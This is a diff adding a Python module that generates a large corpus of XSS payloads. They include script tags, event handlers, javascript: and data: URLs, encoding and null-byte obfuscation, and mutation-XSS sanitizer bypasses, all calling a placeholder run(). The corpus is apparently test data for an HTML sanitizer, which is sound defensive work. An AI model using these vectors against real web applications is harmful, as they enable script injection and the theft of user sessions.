@@ -1,0 +1,176 @@
+"""HTML that runs a script, `run()`, in a browser that shows it as it is: ways to run one, in all kinds of places."""
+
+from __future__ import annotations
+
+EVENTS = (
+    "click mouseover mouseenter pointerdown focus focusin wheel copy keydown scroll auxclick beforeinput toggle error load "
+    "animationstart transitionend"
+).split()
+SCRIPTS = (
+    "<script>run()</script>",
+    "<SCRIPT>run()</SCRIPT>",
+    "<script\n>run()</script\n>",
+    "<script/x>run()</script/x>",
+    "<script src='data:text/javascript,run()'></script>",
+    "<scr<script>ipt>run()</scr</script>ipt>",
+    "<script>//<!--\nrun()//--></script>",
+    "<script type=module>run()</script>",
+    "<script x='>'>run()</script>",
+    "<sc\u3000\u3000ript>run()</sc\u3000\u3000ript>",
+    "<scr\x00ipt>run()</scr\x00ipt>",
+    "<\x00script>run()</script>",
+    "<svg><script>run()</script></svg>",
+    "<svg><script>run&lpar;&rpar;</script></svg>",
+    "<svg><script xlink:href='data:text/javascript,run()'/></svg>",
+    "<math><mtext><script>run()</script></mtext></math>",
+    "<template><script>run()</script></template>",
+    "<!--><script>run()</script>-->",
+    "<!-- --!><script>run()</script>-->",
+    "<![CDATA[><script>run()</script>]]>",
+    "<?x ><script>run()</script>?>",
+    "<xmp></xmp><script>run()</script>",
+    "<title></title><script>run()</script>",
+    "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
+    "<iframe src='javascript:parent.run()'></iframe>",
+    "<object data='javascript:run()'></object>",
+    "<embed src='javascript:run()'>",
+    "<object data='data:text/html,<script>parent.run()</script>'></object>",
+    "<style>@import 'javascript:run()';</style>",
+    "<style>*{background:url(javascript:run())}</style>",
+    "<link rel=stylesheet href='javascript:run()'>",
+    "<meta http-equiv=refresh content='0;url=javascript:run()'>",
+    "<base href='javascript:run()//'><a href=x>x</a>",
+    "<form action='javascript:run()'><button>x</button></form>",
+    "<form><button formaction='javascript:run()'>x</button></form>",
+    "<form id=f></form><button form=f formaction='javascript:run()'>x</button>",
+    "<svg><animate onbegin=run() attributeName=x dur=1s></svg>",
+    "<svg><set onbegin=run() attributeName=x to=y></svg>",
+    "<svg><a><animate attributeName=href values='javascript:run()' /><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>run()</script></svg>#x'/></svg>",
+    "<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>",
+    "<svg><style><img src=x onerror=run()></style></svg>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=run()></annotation-xml></math>",
+    "<math><mi><style><img src=x onerror=run()></style></mi></math>",
+    "<math href='javascript:run()'><mi>x</mi></math>",
+    "<math><maction actiontype='statusline' xlink:href='javascript:run()'>x</maction></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=run()>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=run()&gt;'>",
+    "<svg></p><style><a id='</style><img src=x onerror=run()>'>",
+    "<noscript><p title='</noscript><img src=x onerror=run()>'>",
+    "<noembed><p title='</noembed><img src=x onerror=run()>'>",
+    "<textarea><p title='</textarea><img src=x onerror=run()>'>",
+    "<xmp><p title='</xmp><img src=x onerror=run()>'>",
+    "<title><p title='</title><img src=x onerror=run()>'>",
+    "<select><template><img src=x onerror=run()></template></select>",
+    "<p title='&lt;img src=x onerror=run()&gt;'>&lt;img src=x onerror=run()&gt;<script>run()</script>",
+    "<video><source onerror=run()></video>",
+    "<video src=x onerror=run()></video>",
+    "<audio src=x onerror=run()></audio>",
+    "<img src=x onerror=run()>",
+    "<img/src=x/onerror=run()>",
+    "<img src=x\nonerror\n=\nrun()>",
+    "<img src=x \x0conerror=run()>",
+    "<img src=x onerror='run&#40;&#41;'>",
+    "<img src=x ONERROR=run()>",
+    "<img src=x on\x00error=run() onerror=run()>",
+    "<img src=`x` onerror=`run()` onerror=run()>",
+    "<img ''\"\"src=x onerror=run()>",
+    '<img src=x:x onerror=run() title="<!--">',
+    "<img src='x' alt='`onerror=run()' onerror=run()>",
+    "<image src=x onerror=run()>",
+    "<input autofocus onfocus=run()>",
+    "<input type=image src=x onerror=run()>",
+    "<body onload=run()>",
+    "<details open ontoggle=run()>x</details>",
+    "<marquee onstart=run()>x</marquee>",
+    "<x onclick=run() contenteditable>x</x>",
+    "<p style='animation:x' onanimationstart=run()>x</p>",
+    "<p style='width:expression(run())'>x</p>",
+    "<p style=\"background:url('javascript:run()')\">x</p>",
+    "<p style='-moz-binding:url(x)'>x</p>",
+    "<table background='javascript:run()'><tr><td>x</table>",
+    "<div markdown='1'><script>run()</script></div>",
+    "{::nomarkdown}<script>run()</script>{:/}",
+    "<p>x</p>\n{: onclick='run()'}",
+    "[x](javascript:run())",
+    "![x](x){: onerror='run()'}",
+    "<javascript:run()>",
+    "`</p><script>run()</script>`",
+    "\n    <script>run()</script>\n",
+    "{% raw %}<script>run()</script>{% endraw %}",
+    *(f"<p on{event}=run() tabindex=0>x</p>" for event in EVENTS),
+    *(f"<b on{event}='run()'>x</b>" for event in EVENTS),
+)
+ADDRESSES = (
+    *("javascript:run()", "JaVaScRiPt:run()", " javascript:run()", "\x01javascript:run()", "java\tscript:run()"),
+    *(
+        "java\nscript:run()",
+        "javascript&colon;run()",
+        "&#106;avascript:run()",
+        "&#x6a;avascript:run()",
+        "javascript:run&#40;)",
+    ),
+    *(
+        "java&Tab;script:run()",
+        "java&NewLine;script:run()",
+        "&#0000106avascript:run()",
+        "javascript://%0arun()",
+        "\u3000javascript:run()",
+    ),
+    *(
+        "java\u3000\u3000script:run()",
+        "java\x00script:run()",
+        "java\ufeffscript:run()",
+        "javascript:/*{{*/run()",
+        "vbscript:run()",
+    ),
+    *(
+        "data:text/html,<script>opener.run()</script>",
+        "view-source:javascript:run()",
+        "feed:javascript:run()",
+        "jar:javascript:run()",
+    ),
+)
+HOLDERS = (
+    *(
+        '<a href="{}">x</a>',
+        "<a href='{}'><b>x</b></a>",
+        '<svg><a href="{}"><text>x</text></a></svg>',
+        '<area href="{}">',
+    ),
+    *('<svg><a xlink:href="{}"><text>x</text></a></svg>', '<iframe src="{}"></iframe>', '<img src="{}">'),
+    *(
+        '<form action="{}"><input type=submit></form>',
+        '<a href=http://a.example/ href="{}">x</a>',
+        '<object data="{}"></object>',
+    ),
+)
+PLACES = (
+    *(
+        "{}",
+        "<p>a{}b</p>",
+        "<p>a</p>{}<p>b</p>",
+        "<table><tr><td>{}</td></tr></table>",
+        "<table>{}</table>",
+        "<ul><li>{}</ul>",
+    ),
+    *(
+        "<b><p>{}</b>",
+        '<p title="{}',
+        "<!-- {}",
+        "<noscript>{}</noscript>",
+        "<svg><desc>{}</desc></svg>",
+        "<math><mi>{}",
+    ),
+    *("<pre>{}</pre>", "<select>{}</select>", "<a href=http://a.example/>{}</a>", "<p", "甲{{{{{}}}}}", "<unknown {}"),
+)
+
+
+def attacks() -> list[str]:
+    """Return each attack once, and some in each place."""
+    made = [*SCRIPTS, *(holder.format(address) for holder in HOLDERS for address in ADDRESSES)]
+    for number, place in enumerate(PLACES):
+        made += [
+            place.format(attack) if "{}" in place else f"{place} {attack}" for attack in made[number % 3 : 110 : 3]
+        ]
+    return list(dict.fromkeys(made))
